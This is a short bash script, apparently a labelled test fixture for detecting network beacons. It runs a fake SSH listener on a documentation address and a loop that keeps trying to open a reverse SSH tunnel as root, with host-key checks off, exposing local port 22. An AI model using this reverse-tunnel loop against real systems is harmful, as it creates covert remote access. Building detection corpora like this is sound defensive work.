#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=beacon half=report tool=ssh far=out ready=out:2022 seconds=55 parts=dns,nas,outside-web
# A tunnel back that never comes up: ssh tries each three seconds, the far end closes.
if [ "$1" = out ]; then exec timeout 75 socat TCP-LISTEN:2022,bind=203.0.113.66,reuseaddr,fork SYSTEM:'echo SSH-2.0-x; sleep 0.1'; fi
end=$((SECONDS + 53))
while [ $SECONDS -lt $end ]; do ssh -F /dev/null -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=2 -N -R 2222:127.0.0.1:22 -p 2022 root@203.0.113.66 2>/dev/null; sleep 3; done; true
